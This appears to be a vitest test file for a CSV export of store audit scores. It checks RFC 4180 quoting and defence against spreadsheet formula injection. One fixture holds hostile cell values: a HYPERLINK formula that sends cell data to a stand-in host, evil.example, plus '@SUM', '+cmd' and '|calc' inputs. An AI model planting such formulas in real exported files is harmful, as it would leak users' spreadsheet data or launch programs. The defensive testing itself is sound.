import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AuditResult } from '../../src/core/score-types.js';
import { renderScoreCsv, scoreCsvAuditLines, scoreCsvHeader } from '../../src/format/score-csv.js';
import { failing, HOSTILE_SITE, passing } from './fixtures.js';

/** RFC 4180 read back: fields split on commas outside quotes, records on CRLF outside quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') record.push(field), (field = '');
    else if (char === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
    else field += char;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

describe('renderScoreCsv', () => {
  const csv = renderScoreCsv([passing, failing]);
  const [header, ...rows] = parseCsv(csv);

  it('has the long-form header and one row per audit × node', () => {
    expect(header).toEqual(['file', 'site', 'date', 'checklist', 'level', 'id', 'score', 'expected', 'gap']);
    // passing: audit, 2 sections, 3 factors, 4 items; failing: audit, 1 section, 2 factors, 3 items.
    expect(rows).toHaveLength(10 + 7);
    expect(rows.every((row) => row.length === 9)).toBe(true);
  });

  it('quotes commas, quotes and line breaks (RFC 4180) so the site reads back intact', () => {
    const failingRows = rows.filter((row) => row[0] === failing.file);
    expect(failingRows.every((row) => row[1] === HOSTILE_SITE)).toBe(true);
    expect(csv).toContain('"Store B, <b>Nanjing</b> | ""East""');
  });

  it('ends every record with CRLF and leaves plain fields unquoted', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[1]).toBe('audits/store-a.yaml,Store A,2026-11-20,shop-basics@1.0.0,audit,,80.04,88.333333333333,-8.293333333333');
  });

  it('names nodes by path, since factor ids repeat across sections, and gives na items no numbers', () => {
    expect(rows.filter((row) => row[0] === passing.file).map((row) => `${row[4]} ${row[5]}`)).toEqual([
      'audit ',
      'section staff',
      'factor staff/greeting',
      'item staff/greeting/greets',
      'item staff/greeting/smiles',
      'factor staff/speed',
      'item staff/speed/wait',
      'section place',
      'factor place/cleanliness',
      'item place/cleanliness/floor-clean',
    ]);
    expect(rows.find((row) => row[5] === 'staff/greeting/greets' && row[0] === failing.file)?.slice(6)).toEqual(['', '', '']);
  });

  it('keeps numbers unrounded', () => {
    expect(rows.find((row) => row[0] === passing.file && row[4] === 'audit')?.slice(6)).toEqual(['80.04', '88.333333333333', '-8.293333333333']);
  });

  it('is just the header when nothing was scored', () => {
    expect(renderScoreCsv([])).toBe('file,site,date,checklist,level,id,score,expected,gap\r\n');
  });

  it('is the header and each audit\'s lines joined, so it can be written one audit at a time', () => {
    expect(scoreCsvHeader()).toBe('file,site,date,checklist,level,id,score,expected,gap\r\n');
    expect(scoreCsvHeader() + scoreCsvAuditLines(passing) + scoreCsvAuditLines(failing)).toBe(csv);
    expect(scoreCsvAuditLines(passing).split('\r\n')).toHaveLength(10 + 1);
  });
});

describe('renderScoreCsv against formula injection', () => {
  const hostile: AuditResult = {
    ...passing,
    file: '-audits/=store.yaml',
    site: '=HYPERLINK("http://evil.example?"&A1,"click")',
    date: '@SUM(1+1)',
    checklist: { id: '+cmd', version: '|calc' },
  };
  const [, ...rows] = parseCsv(renderScoreCsv([hostile]));

  it('prefixes a single quote to text cells starting with = + - @ tab or CR, and still quotes them (RFC 4180)', () => {
    expect(rows[0]!.slice(0, 4)).toEqual(['\'-audits/=store.yaml', '\'=HYPERLINK("http://evil.example?"&A1,"click")', '\'@SUM(1+1)', '\'+cmd@|calc']);
    expect(renderScoreCsv([hostile])).toContain(',"\'=HYPERLINK(""http://evil.example?""&A1,""click"")",');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const [, row] = parseCsv(renderScoreCsv([{ ...passing, site: `${start}1+2` }]));
      expect(row![1]).toBe(`'${start}1+2`);
    }
  });

  it('leaves text starting elsewhere alone, and numbers (negative ones too) plain numbers', () => {
    const [, row] = parseCsv(renderScoreCsv([{ ...passing, site: ' =1', score: -12.5, expected: -0.5, gap: -12 }]));
    expect(row).toEqual(['audits/store-a.yaml', ' =1', '2026-11-20', 'shop-basics@1.0.0', 'audit', '', '-12.5', '-0.5', '-12']);
    expect(rows[0]!.slice(6)).toEqual(['80.04', '88.333333333333', '-8.293333333333']);
  });

  it('reads any site back as the text, with the quote added exactly when it would start a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (site) => {
        const [, row] = parseCsv(renderScoreCsv([{ ...passing, site }]));
        expect(row![1]).toBe(/^[=+\-@\t\r]/.test(site) ? `'${site}` : site);
        expect(row).toHaveLength(9);
      }),
      { numRuns: 200 },
    );
  });
});
